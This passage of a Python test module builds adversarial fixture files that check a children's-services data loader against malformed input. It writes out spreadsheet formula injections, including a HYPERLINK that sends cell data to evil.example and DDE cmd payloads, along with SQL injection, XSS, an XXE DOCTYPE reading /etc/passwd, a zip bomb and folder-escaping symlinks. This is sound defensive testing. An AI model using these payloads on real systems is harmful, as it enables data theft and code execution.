"""The hostile corpus (tests/fixtures/hostile/): every case, how its file is made, and what must happen.

Each :class:`Case` is one crafted file (or folder layout) and its expected outcome. Committed
cases live in ``tests/fixtures/hostile/cases/<id>/``, laid out as under an incoming folder
(``991_northbrook/2025-09-30/csc_person_list.csv``), so messages name them as an analyst would see
them. Cases that cannot or should not be committed (zip bombs, named pipes, links, files of tens of
MB) are made by the test in a temporary folder from the same builder (``committed=False``).

    .venv/bin/python tests/hostile_corpus.py    # rewrite the committed files and README.md's table

``tests/test_hostile_corpus.py`` checks the committed files are what the builders make, feeds each
case to its reader (or the incoming-folder scan) and checks the outcome; the cases marked
``pipeline`` also go, all at once, through ``neglect run``.

Every name, number and postcode here is made up: NHS numbers in the 999 test range, UPNs starting
``Z9``, postcodes starting ``Q`` (no real postcode does), surnames from :data:`SURNAMES` (odd enough
that finding one anywhere in the warehouse's quality tables, the logs or Dagster's storage is a leak).
"""
from __future__ import annotations

import io
import os
import re
import shutil
import sys
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

HERE = Path(__file__).resolve().parent
CORPUS = HERE / "fixtures" / "hostile"
CASES_DIR = CORPUS / "cases"

SURNAMES = ["Quillfeather", "Marchbanks", "Ostrowicz", "Pendragon", "Thistlewood", "Vantongeren", "Wrexhamby",
            "Yarborough", "Zabriskie", "Ashcombe", "Bellweather", "Cragthorpe", "Dunmorrow", "Esterbrook",
            "Fenwickham", "Gallowglass", "Hollinrake", "Inchbald", "Jarrowgate", "Kettlewell", "Lindqvist",
            "Mossendew", "Netherbury", "Orpington", "Pellinore"]
FORENAMES = ["Aurelio", "Brontë", "Caspian", "Delphine", "Evander", "Florimel", "Gwendolen", "Horatio", "Isolde",
             "Jessamy", "Kestrel", "Leontyne", "Marisol", "Nicodemus", "Ottoline", "Peregrine", "Quintessa",
             "Roderick", "Seraphine", "Tarquin", "Ulrika", "Valentin", "Wilhelmina", "Xanthe", "Yevgenia"]

PERSON_HEADER = ["LA Child ID", "NHS Number", "UPN", "Forename", "Surname", "Date of Birth", "Gender", "Postcode",
                 "Address Start Date", "Address End Date"]
CP_HEADER = ["Child Unique ID", "Gender", "Ethnicity", "Date of Birth", "Age of Child (Years)",
             "Does the Child have a Disability", "Child Protection Plan Start Date", "Initial Category of Abuse",
             "Latest Category of Abuse", "Date of the Last Statutory Visit", "Was the Child Seen Alone?",
             "Date of latest review conference", "Child Protection Plan End Date",
             "Subject to Emergency Protection Order or Protected Under Police Powers in Last Six Months (Y/N)",
             "Number of Previous Child Protection Plans", "Allocated Team", "Allocated Worker"]
EH_HEADER = ["EH ID", "Episode ID", "LA Child ID", "NHS Number", "Forename", "Surname", "Date of Birth", "Gender",
             "Postcode", "Episode Start Date", "Episode End Date", "End Reason", "EH Assessment Date",
             "Presenting Needs", "GCP2 Physical Care", "GCP2 Care of Safety", "GCP2 Love and Care",
             "GCP2 Stimulation and Education", "Lead Practitioner Team"]
ADULT_HEADER = ["Client ID", "Episode ID", "NHS Number", "Forename", "Surname", "Date of Birth", "Gender", "Postcode",
                "Service", "Episode Start Date", "Episode End Date", "Parental Responsibility",
                "Number of Children in Household", "Child Safeguarding Concern Raised"]
POPULATION_HEADER = ["WD24CD", "WD24NM", "LAD24CD", "LAD24NM", "sex", "age", "population_2025"]


# ------------------------------------------------------------------------------------------- values

def nhs_number(i: int) -> str:
    """A valid (modulus 11) NHS number in the 999 test range."""
    n = 0
    while True:
        base = f"999{(i * 7919 + n) % 1_000_000:06d}"
        total = sum(int(d) * w for d, w in zip(base, range(10, 1, -1)))
        check = 11 - total % 11
        check = 0 if check == 11 else check
        if check != 10:
            return base + str(check)
        n += 1


def upn(i: int) -> str:
    return f"Z9{i:010d}A"


def postcode(i: int) -> str:
    return f"QN{1 + i % 9} {1 + i % 8}ZZ"


def dob(i: int) -> str:
    return f"{1 + i % 27:02d}/{1 + i % 12:02d}/{2003 + i % 12}"


def person_rows(n: int, prefix: str = "HX") -> list[list[str]]:
    return [[f"{prefix}{9000 + i}", nhs_number(i), upn(i), FORENAMES[i % 25], SURNAMES[i % 25], dob(i),
             "F" if i % 2 else "M", postcode(i), f"{1 + i % 28:02d}/0{1 + i % 9}/2015", ""] for i in range(n)]


def cp_rows(n: int, prefix: str = "HX") -> list[list[str]]:
    cats = ["NEG", "a) Neglect", "EMO", "PHY", "MUL"]
    return [[f"{prefix}{9000 + i}", "F" if i % 2 else "M", "WBRI", dob(i), str(5 + i % 10), "N",
             f"{1 + i % 28:02d}/01/2017", cats[i % 5], cats[(i + 1) % 5], "10/03/2017", "Y", "01/03/2017", "",
             "N", str(i % 3), "Hostile CP Team", "Sam Worker"] for i in range(n)]


def eh_rows(n: int, prefix: str = "HX") -> list[list[str]]:
    return [[f"EH{prefix}{5000 + i}", f"EHE-{5000 + i}", f"{prefix}{9000 + i}", nhs_number(i), FORENAMES[i % 25],
             SURNAMES[i % 25], dob(i), "Female" if i % 2 else "Male", postcode(i), f"{1 + i % 28:02d}/02/2017", "",
             "", f"{1 + i % 28:02d}/02/2017", "16A; 4B" if i % 3 == 0 else "20", "4", "3", "3", "2",
             "Hostile Family Help"] for i in range(n)]


def adult_rows(n: int, service: str = "Community Mental Health Team", prefix: str = "MH") -> list[list[str]]:
    return [[f"{prefix}99{7000 + i}", f"{prefix}E-{7000 + i}", nhs_number(500 + i), FORENAMES[(i + 3) % 25],
             SURNAMES[(i + 7) % 25], f"{1 + i % 27:02d}/03/198{i % 10}", "F" if i % 2 else "M", postcode(i),
             service, f"{1 + i % 28:02d}/01/2017", "", "Y", "1", "N"] for i in range(n)]


def population_rows(mid_year: int = 2025, count: int = 300) -> list[list[str]]:
    rows = []
    for la, lad, ward, name in (("Northbrook", "E06000901", "E05900001", "Saltwell"),
                                ("Eastmere", "E06000902", "E05900101", "Marshside")):
        for sex in (1, 2):
            for age in range(18):
                rows.append([ward, name, lad, la, str(sex), str(age), str(count + age)])
    return rows


def csv_text(header: list[str], rows: list[list[str]], delimiter: str = ",", newline: str = "\r\n") -> str:
    out = io.StringIO()
    import csv

    writer = csv.writer(out, delimiter=delimiter, lineterminator=newline)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def _write(path: Path, data: bytes | str, encoding: str = "utf-8") -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data if isinstance(data, bytes) else data.encode(encoding))


def _xlsx(header: list[str], rows: list[list[str]], title: str = "List 7") -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = title
    if header:
        ws.append(header)
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    # fixed timestamps inside (docProps/core.xml) and on the zip entries: the committed bytes never change
    return _stable_zip(out.getvalue(), lambda name, data: re.sub(
        rb"(<dcterms:(?:created|modified)[^>]*>)[^<]*", rb"\g<1>2026-01-01T00:00:00Z", data)
        if name == "docProps/core.xml" else data)


def _stable_zip(raw: bytes, edit: Callable[[str, bytes], bytes] | None = None,
                extra: dict[str, bytes] | None = None) -> bytes:
    """The zip rewritten with fixed timestamps (so the committed bytes never change), optionally edited."""
    source = zipfile.ZipFile(io.BytesIO(raw))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            if edit is not None:
                data = edit(info.filename, data)
            target.writestr(zipfile.ZipInfo(info.filename, date_time=(2026, 1, 1, 0, 0, 0)), data,
                            compress_type=zipfile.ZIP_DEFLATED)
        for name, data in (extra or {}).items():
            target.writestr(zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0)), data,
                            compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _sheet_edit(fn: Callable[[bytes], bytes]) -> Callable[[str, bytes], bytes]:
    return lambda name, data: fn(data) if name == "xl/worksheets/sheet1.xml" else data


CIN_BASE = HERE / "fixtures" / "cin" / "cin_return_2025_reference_28_march.xml"


def _cin(edit: Callable[[str], str]) -> str:
    return edit(CIN_BASE.read_text(encoding="utf-8"))


# ------------------------------------------------------------------------------------------- cases

@dataclass(frozen=True)
class Refused:
    """The reader raises SourceFileError at ``location`` whose problem contains every one of ``words``."""
    location: str
    words: tuple[str, ...] = ()

    def __str__(self) -> str:
        return f"refused at `{self.location}`: " + ", ".join(f"“{w}”" for w in self.words)


@dataclass(frozen=True)
class Loaded:
    """The reader returns rows: ``rows_read`` data rows, the lines in ``rejected`` rejected with those rules."""
    rows_read: int
    rejected: dict = field(default_factory=dict)  # line -> rule
    encoding: str | None = None
    note: str = ""

    def __str__(self) -> str:
        rejected = "; ".join(f"line {line} `{rule}`" for line, rule in sorted(self.rejected.items()))
        return (f"loaded: {self.rows_read} rows read" + (f", {self.encoding}" if self.encoding else "") +
                (f"; rejected {rejected}" if rejected else "; none rejected") + (f"; {self.note}" if self.note else ""))


@dataclass(frozen=True)
class Scanned:
    """The incoming-folder scan: ``skipped`` (relative path -> words of the reason), ``problems`` (files found
    but refused: path -> words), ``placed`` (files given to their source and loaded)."""
    skipped: dict = field(default_factory=dict)
    problems: dict = field(default_factory=dict)
    placed: tuple[str, ...] = ()

    def __str__(self) -> str:
        parts = [f"skipped `{p}` (“{w}”)" for p, w in self.skipped.items()]
        parts += [f"`{p}` found but refused (“{w}”)" for p, w in self.problems.items()]
        parts += [f"`{p}` loaded" for p in self.placed]
        return "; ".join(parts)


@dataclass(frozen=True)
class Case:
    id: str
    area: str  # CSV, .xlsx, CIN XML, reference, layout
    reader: str  # the registry source read with, or "scan"
    file: str  # the case's path under its case folder (as under incoming/)
    what: str
    outcome: Refused | Loaded | Scanned
    build: Callable[[Path], None]  # writes the case under a folder standing for incoming/
    committed: bool = True
    pipeline: bool = False  # also through `neglect run` (tests/test_hostile_corpus.py)
    slow: bool = False  # read only by the slow tests (pytest -m slow): seconds to build
    leak_words: tuple[str, ...] = ()  # identifiers that must appear in no message


def _file_case(cid, area, reader, file, what, outcome, content, encoding="utf-8", **kw) -> Case:
    def build(root: Path) -> None:
        _write(root / file, content() if callable(content) else content, encoding)
    return Case(cid, area, reader, file, what, outcome, build, **kw)


P = "991_northbrook/2025-09-30/csc_person_list.csv"


def _person(rows=None, n=24, header=None, delimiter=",") -> str:
    return csv_text(header or PERSON_HEADER, rows if rows is not None else person_rows(n), delimiter)


def _extra_field() -> str:
    rows = person_rows(24)
    rows[5] = rows[5] + ["stray value"]  # line 7
    return _person(rows)


def _unclosed_quote_last() -> str:
    text = _person(n=24).rstrip("\r\n")
    head, _, last = text.rpartition("\r\n")
    return head + "\r\n" + last.replace(",", ',"', 1) + "\r\n"


def _cp1252_with_utf8() -> bytes:
    rows = person_rows(24)
    for r in rows[::3]:
        r[3] = "Renée"  # é in Windows-1252 on every third line: not UTF-8
    text = _person(rows).split("\r\n")
    raw = [line.encode("cp1252") for line in text]
    raw[3] = text[3].replace(rows[2][3], "Łucja").encode("utf-8")  # line 4: UTF-8 'Ł' (0xC5 0x81; 0x81 is not cp1252)
    return b"\r\n".join(raw)


def _utf8_with_cp1252_byte() -> bytes:
    rows = person_rows(24)
    for r in rows:
        r[3] = "Zoë"
    text = _person(rows).split("\r\n")
    raw = [line.encode("utf-8") for line in text]
    raw[5] = text[5].replace("Zoë", "Zoé").encode("cp1252")  # line 6: one Windows-1252 byte in a UTF-8 file
    return b"\r\n".join(raw)


def _swap(header: list[str], a: str, b: str) -> list[str]:
    out = list(header)
    i, j = out.index(a), out.index(b)
    out[i], out[j] = out[j], out[i]
    return out


def _duplicate_dob() -> str:
    header = PERSON_HEADER + ["Date of Birth"]
    rows = [r[:5] + [""] + r[6:] + [r[5]] for r in person_rows(24)]  # first DOB blank, the second filled
    return _person(rows, header=header)


def _long_field() -> str:
    rows = person_rows(24)
    rows[10][7] = "Q" * 40_000  # line 12
    return _person(rows)


def _formulas() -> str:
    rows = person_rows(24)
    rows[0][3], rows[1][3] = '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+9)*cmd|' /C calc'!A0"
    rows[2][4], rows[3][4], rows[4][4] = "+44 20 7946 0000", "-2+3+cmd|' /C calc'!A0", "\tTabbed"
    return _person(rows)


def _sql_html() -> str:
    rows = eh_rows(24)
    rows[0][11] = "Robert'); DROP TABLE raw.early_help;--"
    rows[1][18] = "<script>alert('x')</script> Team"
    rows[2][4] = "<img src=x onerror=alert(1)>"
    return csv_text(EH_HEADER, rows)


def _mostly_malformed() -> str:
    rows = person_rows(24)
    for r in rows[::2]:
        r.append("stray")
    return _person(rows)


def _quoted_newlines() -> str:
    rows = eh_rows(24)
    rows[3][11] = "Closed:\nfamily moved\nout of area"  # line 5 spans lines 5-7
    return csv_text(EH_HEADER, rows)


def _many_columns() -> str:
    header = PERSON_HEADER + [f"Extra {i}" for i in range(1200)]
    return csv_text(header, [r + [""] * 1200 for r in person_rows(3)])


def _zero_width_codes() -> str:
    rows = person_rows(24)
    rows[4][6] = "M\u200b"  # line 6: a zero-width space after the code
    return _person(rows)


def _xlsx_bytes(edit=None, rows=None, header=None, extra=None) -> bytes:
    raw = _xlsx(header if header is not None else CP_HEADER, rows if rows is not None else cp_rows(12))
    return _stable_zip(raw, edit, extra) if (edit or extra) else raw


def _sparse() -> bytes:
    return _xlsx_bytes(_sheet_edit(lambda d: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', d)))


def _stray_cell() -> bytes:
    return _xlsx_bytes(_sheet_edit(lambda d: d.replace(b"</sheetData>",
                                                       b'<row r="3"><c r="XFD3" t="inlineStr"><is><t>x</t></is></c>'
                                                       b"</row></sheetData>", 1)))


def _single_quotes() -> bytes:
    return _xlsx_bytes(_sheet_edit(lambda d: re.sub(rb'<row r="13"', b"<row r='1048576'", d)))


def _entity_refs() -> bytes:
    return _xlsx_bytes(_sheet_edit(lambda d: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:&#88;FD9"', d)))


def _xlsx_doctype() -> bytes:
    return _xlsx_bytes(_sheet_edit(lambda d: d.replace(
        b"<worksheet", b'<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet', 1)))


def _xlsx_broken_xml() -> bytes:
    return _xlsx_bytes(_sheet_edit(lambda d: d.replace(b"</sheetData>", b"<row></sheetData>", 1)))


def _declared_bomb() -> bytes:
    """A zip whose directory says a part unpacks to 4 GB (the header lies: refused from the directory alone)."""
    raw = bytearray(_xlsx_bytes())
    at = raw.rfind(b"xl/worksheets/sheet1.xml")  # its central-directory entry: the uncompressed size is 22 bytes on
    entry = raw.rfind(b"PK\x01\x02", 0, at)
    raw[entry + 24:entry + 28] = (0xF0000000).to_bytes(4, "little")
    return bytes(raw)


def zip_bomb(path: Path) -> None:
    """A real zip bomb (made by the test): a workbook with a 600 MB part of zeros, about 2.5 MB on disk."""
    out = io.BytesIO(_xlsx_bytes())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as target:
        block = b"0" * (1 << 20)
        info = zipfile.ZipInfo("xl/media/padding.bin", date_time=(2026, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with target.open(info, "w", force_zip64=True) as part:
            for _ in range(600):
                part.write(block)
    _write(path, out.getvalue())


def big_sheet(path: Path) -> None:
    """A sheet of 260,000 rows x 20 columns written as bare XML (made by the test): more cells than allowed."""
    rows = "".join(f'<row r="{r}">' + "".join(f'<c r="{chr(65 + c)}{r}"><v>{c}</v></c>' for c in range(20)) + "</row>"
                   for r in range(1, 260_001))
    sheet = ('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
             + rows + "</sheetData></worksheet>").encode()
    _write(path, _xlsx_bytes(lambda name, data: sheet if name == "xl/worksheets/sheet1.xml" else data))


def _utf16(encoding: str, bom: bool) -> Callable[[], bytes]:
    def make() -> bytes:
        text = _person(n=24)
        return (b"\xff\xfe" if bom else b"") + text.encode(encoding)
    return make


def _two_cp_lists(root: Path) -> None:
    folder = root / "991_northbrook/2024-12-31"
    _write(folder / "annex_a_list_7_child_protection.csv", csv_text(CP_HEADER, cp_rows(6)))
    _write(folder / "annex_a_list_7_child_protection.xlsx", _xlsx(CP_HEADER, cp_rows(7)))


def _identical_copies(root: Path) -> None:
    folder = root / "992_eastmere/2024-12-31"
    text = csv_text(CP_HEADER, cp_rows(6, "EM"))
    _write(folder / "annex_a_list_7_child_protection.csv", text)
    _write(folder / "CP list (copy).csv", text)  # recognised by its header: a second CP list, the same bytes


def _two_services(root: Path) -> None:
    folder = root / "992_eastmere/2024-12-31"
    _write(folder / "adult_mental_health_episodes.csv", csv_text(ADULT_HEADER, adult_rows(5)))
    _write(folder / "adult_substance_misuse_episodes.csv",
           csv_text(ADULT_HEADER, adult_rows(4, "Drug and Alcohol Service", "SM")))


def _same_service_twice(root: Path) -> None:
    folder = root / "992_eastmere/2024-09-30"
    text = csv_text(ADULT_HEADER, adult_rows(5))
    _write(folder / "adult_mental_health_episodes.csv", text)
    _write(folder / "adult_mental_health_copy_episodes.csv", text)


def _two_la_folders(root: Path) -> None:
    for name in ("993_westvale", "993_westvale_old"):
        _write(root / name / "2025-03-31/annex_a_list_7_child_protection.csv", csv_text(CP_HEADER, cp_rows(4, "WV")))


def _layout(files: dict[str, str | bytes]) -> Callable[[Path], None]:
    def build(root: Path) -> None:
        for rel, content in files.items():
            if rel.endswith("/"):
                (root / rel).mkdir(parents=True, exist_ok=True)
            else:
                _write(root / rel, content)
    return build


def _fifo(root: Path) -> None:
    folder = root / "992_eastmere/2025-09-30"
    folder.mkdir(parents=True, exist_ok=True)
    os.mkfifo(folder / "early_help_episodes.csv")


def _link_out(root: Path) -> None:
    outside = root.parent / f"{root.name}_outside"
    _write(outside / "secret.csv", csv_text(PERSON_HEADER, person_rows(3)))
    folder = root / "991_northbrook/2025-06-30"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "csc_person_list.csv").symlink_to(outside / "secret.csv")


def _link_folder_out(root: Path) -> None:
    outside = root.parent / f"{root.name}_outside_folder"
    _write(outside / "2025-03-31" / "csc_person_list.csv", csv_text(PERSON_HEADER, person_rows(3)))
    root.mkdir(parents=True, exist_ok=True)
    (root / "994_linked").symlink_to(outside)


def _link_inside(root: Path) -> None:
    _write(root / "shared/csc_person_list.csv", csv_text(PERSON_HEADER, person_rows(4)))
    folder = root / "991_northbrook/2024-09-30"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "csc_person_list.csv").symlink_to(root / "shared/csc_person_list.csv")


def _broken_link(root: Path) -> None:
    folder = root / "991_northbrook/2024-06-30"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "csc_person_list.csv").symlink_to(folder / "gone.csv")


def _reference_link_out(root: Path) -> None:
    outside = root.parent / f"{root.name}_outside_ref"
    _write(outside / "lookup.csv", "pcds,osward\nQN1 1ZZ,E05900001\n")
    (root / "reference").mkdir(parents=True, exist_ok=True)
    (root / "reference" / "postcode_lookup_2025.csv").symlink_to(outside / "lookup.csv")


def _reference_fifo(root: Path) -> None:
    folder = root / "reference" / "population"
    folder.mkdir(parents=True, exist_ok=True)
    os.mkfifo(folder / "population_mid_2025.csv")


def _population(rows=None, delimiter=",", header=None) -> str:
    return csv_text(header or POPULATION_HEADER, rows if rows is not None else population_rows(), delimiter)


def _population_typo() -> str:
    rows = population_rows()
    rows[4][6] = "99999999"  # Northbrook, Saltwell, sex 1, age 4
    return _population(rows)


def _geo(features: str) -> str:
    return '{"type": "FeatureCollection", "features": [' + features + "]}"


FEATURE = ('{{"type": "Feature", "properties": {{"WD24CD": "E0590000{i}", "WD24NM": "{name}"}}, '
           '"geometry": {{"type": "Polygon", "coordinates": [[[0, 0], [0, 1], [1, 1], [0, 0]]]}}}}')


def _cases() -> list[Case]:
    c = []
    add = c.append
    pl, cp, eh = "person_list", "cp_list", "early_help"
    # ------------------------------------------------------------------ CSV: lines, encodings, delimiters
    add(_file_case("H01", "CSV", pl, P, "one line (7) with an extra, non-blank field in a 24-row person list",
                   Loaded(24, {7: "malformed_line"}), _extra_field, pipeline=True))
    add(_file_case("H02", "CSV", eh, "991_northbrook/2025-06-30/early_help_episodes.csv",
                   "a quote opened on line 9 never closed (the rest of the file would be one value)",
                   Loaded(24, {9: "malformed_line"}, note="lines 10-25 read normally"), _eh_unclosed, pipeline=True))
    add(_file_case("H03", "CSV", pl, "992_eastmere/2025-03-31/csc_person_list.csv",
                   "a quote opened on the last line, never closed", Loaded(24, {25: "malformed_line"}),
                   _unclosed_quote_last))
    add(_file_case("H04", "CSV", pl, "992_eastmere/2025-06-30/csc_person_list.csv",
                   "Windows-1252 file (é on every third line) with one UTF-8 'Ł' on line 4",
                   Loaded(24, {4: "undecodable_text"}, "cp1252"), _cp1252_with_utf8, pipeline=True))
    add(_file_case("H05", "CSV", pl, "992_eastmere/2024-12-31/csc_person_list.csv",
                   "UTF-8 file (ë on every line) with one Windows-1252 'é' byte on line 6: stays UTF-8, names intact",
                   Loaded(24, {6: "undecodable_text"}, "utf-8-sig"), _utf8_with_cp1252_byte))
    add(_file_case("H06", "CSV", pl, "992_eastmere/2025-09-30/csc_person_list.csv", "UTF-16 LE with a byte-order mark",
                   Loaded(24, {}, "utf-16"), _utf16("utf-16-le", True), pipeline=True))
    add(_file_case("H07", "CSV", pl, "992_eastmere/2024-09-30/csc_person_list.csv", "UTF-16 BE without a byte-order mark",
                   Loaded(24, {}, "utf-16-be"), _utf16("utf-16-be", False)))
    add(_file_case("H08", "CSV", cp, "991_northbrook/2025-03-31/annex_a_list_7_child_protection.csv",
                   "semicolon-separated CP list (a European Excel's 'CSV')", Loaded(12),
                   lambda: csv_text(CP_HEADER, cp_rows(12), ";"), pipeline=True))
    add(_file_case("H09", "CSV", pl, "991_northbrook/2024-03-31/csc_person_list.csv", "tab-separated person list",
                   Loaded(24), lambda: _person(n=24, delimiter="\t")))
    add(_file_case("H10", "CSV", pl, "991_northbrook/2023-12-31/csc_person_list.csv", "'|'-separated person list",
                   Loaded(24), lambda: _person(n=24, delimiter="|")))
    add(_file_case("H11", "CSV", pl, "992_eastmere/2025-12-31/csc_person_list.csv",
                   "Date of Birth twice: the first blank, the second filled",
                   Refused("line 1 (header)", ("the column 'Date of Birth' appears 2 times", "columns 6 and 11")),
                   _duplicate_dob, pipeline=True))
    add(_file_case("H12", "CSV", pl, "991_northbrook/2023-09-30/csc_person_list.csv",
                   "Date of Birth and DATE OF BIRTH (the same column up to case)",
                   Refused("line 1 (header)", ("more than one column could be 'date_of_birth'",)),
                   lambda: _person([r + [r[5]] for r in person_rows(5)], header=PERSON_HEADER + ["DATE OF BIRTH"])))
    add(_file_case("H13", "CSV", pl, "991_northbrook/2023-06-30/csc_person_list.csv",
                   "a 40,000-character value on line 12", Loaded(24, {12: "field_too_long"}), _long_field))
    add(_file_case("H14", "CSV", pl, "991_northbrook/2025-12-31/csc_person_list.csv",
                   "Surname and Gender headers swapped (every 'gender' is a surname)",
                   Loaded(24, {line: "invalid_code" for line in range(2, 26)},
                          note="no surname in any message; through the pipeline the file is refused (more than half "
                               "its rows rejected)"),
                   lambda: _person(header=_swap(PERSON_HEADER, "Surname", "Gender")), pipeline=True,
                   leak_words=tuple(SURNAMES)))
    add(_file_case("H15", "CSV", pl, "991_northbrook/2023-03-31/csc_person_list.csv",
                   "NHS Number and Gender headers swapped", Loaded(24, {line: "invalid_code" for line in range(2, 26)},
                                                                   note="no NHS number in any message"),
                   lambda: _person(header=_swap(PERSON_HEADER, "NHS Number", "Gender")),
                   leak_words=tuple(nhs_number(i) for i in range(24))))
    add(_file_case("H16", "CSV", pl, "991_northbrook/2022-12-31/csc_person_list.csv",
                   "UPN and Gender headers swapped", Loaded(24, {line: "invalid_code" for line in range(2, 26)},
                                                           note="no UPN in any message"),
                   lambda: _person(header=_swap(PERSON_HEADER, "UPN", "Gender")),
                   leak_words=tuple(upn(i) for i in range(24))))
    add(_file_case("H17", "CSV", pl, "991_northbrook/2022-09-30/csc_person_list.csv",
                   "Date of Birth and Address Start Date swapped, one date of birth impossible (31/02)",
                   Loaded(24, {4: "invalid_date"}, note="the date is not quoted"),
                   lambda: _person([r if i != 2 else r[:8] + ["31/02/2015", ""] for i, r in enumerate(person_rows(24))],
                                   header=_swap(PERSON_HEADER, "Date of Birth", "Address Start Date")),
                   leak_words=("31/02/2015",)))
    add(_file_case("H18", "CSV", pl, "991_northbrook/2022-06-30/csc_person_list.csv",
                   "formula-like names (=HYPERLINK, @SUM, +44, -2+3, tab)", Loaded(24, note="kept as text"), _formulas))
    add(_file_case("H19", "CSV", eh, "991_northbrook/2022-03-31/early_help_episodes.csv",
                   "SQL injection in End Reason, HTML/JS in a team and a name", Loaded(24, note="kept as text, inert"),
                   _sql_html))
    add(_file_case("H20", "CSV", pl, "991_northbrook/2021-12-31/csc_person_list.csv", "a byte-order mark and nothing else",
                   Refused("line 1 (header)", ("no header row",)), b"\xef\xbb\xbf"))
    add(_file_case("H21", "CSV", pl, "991_northbrook/2021-09-30/csc_person_list.csv", "header only, CRLF",
                   Loaded(0), lambda: ",".join(PERSON_HEADER) + "\r\n"))
    add(_file_case("H22", "CSV", pl, "991_northbrook/2021-06-30/csc_person_list.csv",
                   "blank lines before, between and after the rows", Loaded(24, note="blank lines counted, not rows"),
                   lambda: _person(n=24).replace("\r\nHX9005", "\r\n\r\n,,,,,,,,,\r\nHX9005") + "\r\n\r\n"))
    add(_file_case("H23", "CSV", pl, "991_northbrook/2021-03-31/csc_person_list.csv", "zero bytes in the text (binary)",
                   Refused("line 1", ("binary data",)), lambda: _person(n=3).encode() + b"\x00\x01\x02"))
    add(_file_case("H24", "CSV", pl, "991_northbrook/2020-12-31/csc_person_list.csv",
                   "an old .xls (OLE2) renamed .csv", Refused("line 1", ("an old .xls",)),
                   b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504))
    add(_file_case("H25", "CSV", pl, "991_northbrook/2020-09-30/csc_person_list.csv", "a PDF renamed .csv",
                   Refused("line 1", ("binary data",)), b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"))
    add(_file_case("H26", "CSV", pl, "991_northbrook/2020-06-30/csc_person_list.csv",
                   "half the lines with an extra field (a delimiter problem, not a few bad lines)",
                   Refused("line 2", ("12 of 24 lines cannot be used", "more than 10%")), _mostly_malformed))
    add(_file_case("H27", "CSV", pl, "991_northbrook/2020-03-31/csc_person_list.csv", "no header row: data from line 1",
                   Refused("line 1 (header)", ("required column 'LA Child ID' not found",)),
                   lambda: _person(n=6).split("\r\n", 1)[1], leak_words=tuple(SURNAMES[:6])))
    add(_file_case("H28", "CSV", pl, "991_northbrook/2019-12-31/csc_person_list.csv", "only delimiters",
                   Refused("line 1 (header)", ("required column",)), ",,,,,,,,,\r\n,,,,,,,,,\r\n"))
    add(_file_case("H29", "CSV", eh, "992_eastmere/2024-06-30/early_help_episodes.csv",
                   "a quoted value with line breaks on line 5 (legitimate)",
                   Loaded(24, note="the row after it is line 8, as in the file"), _quoted_newlines))
    add(_file_case("H30", "CSV", pl, "991_northbrook/2019-09-30/csc_person_list.csv", "old Mac line endings (CR only)",
                   Loaded(24), lambda: _person(n=24).replace("\r\n", "\r")))
    add(_file_case("H31", "CSV", pl, "991_northbrook/2019-06-30/csc_person_list.csv", "1,210 header columns",
                   Refused("line 1 (header)", ("1,210 columns", "more than the 1,000")), _many_columns))
    add(_file_case("H32", "CSV", pl, "991_northbrook/2019-03-31/csc_person_list.csv",
                   "a trailing delimiter on every row, and one extra non-blank value on line 9",
                   Loaded(24, {9: "malformed_line"}),
                   lambda: "\r\n".join(line + ("," if i else "") + ("extra" if i == 8 else "")
                                       for i, line in enumerate(_person(n=24).rstrip("\r\n").split("\r\n"))) + "\r\n"))
    add(_file_case("H33", "CSV", pl, "991_northbrook/2018-12-31/csc_person_list.csv",
                   "a zero-width space after a gender code (line 6)", Loaded(24, {6: "invalid_code"}), _zero_width_codes))
    add(_file_case("H34", "CSV", eh, "991_northbrook/2018-09-30/early_help_episodes.csv",
                   "month-first dates (04/23/2025)", Refused("column 'episode_start_date'", ("month-first",)),
                   lambda: csv_text(EH_HEADER, [r[:9] + ["04/23/2025"] + r[10:] for r in eh_rows(5)])))
    add(_file_case("H35", "CSV", "adult_episodes", "992_eastmere/2024-03-31/adult_mental_health_episodes.csv",
                   "dates from 1800, in the future, and 29/02 of a common year",
                   Loaded(6, {2: "invalid_date", 3: "future_date", 4: "invalid_date"}),
                   lambda: csv_text(ADULT_HEADER, [r[:9] + [d] + r[10:] for r, d in zip(
                       adult_rows(6), ["01/01/1800", "01/01/2030", "29/02/2023", "01/03/2024", "02/03/2024",
                                       "03/03/2024"])])))
    add(_file_case("H36", "CSV", "adult_household_children",
                   "992_eastmere/2023-12-31/adult_mental_health_household_children.csv",
                   "SQL and HTML in child names", Loaded(2, note="kept as text, inert"),
                   "Client ID,Episode ID,Child Forename,Child Surname,Child Date of Birth,Child Lives With Client\r\n"
                   "MH992700001,MHE-7001,\"Bobby'); DROP TABLE raw.adult_household_children;--\",Quillfeather,"
                   "07/05/2020,Y\r\nMH992700002,MHE-7002,<script>alert(1)</script>,Marchbanks,01/01/2019,N\r\n"))
    add(_file_case("H37", "CSV", cp, "992_eastmere/2023-09-30/annex_a_list_7_child_protection.csv",
                   "a new category variant ('Financial abuse') and a code-like typo ('N3G')",
                   Loaded(12, {2: "invalid_code", 3: "invalid_code"},
                          note="both quoted: shaped like codes of the list"),
                   lambda: csv_text(CP_HEADER, [r[:7] + [v] + r[8:] if i < 2 else r for i, (r, v) in enumerate(
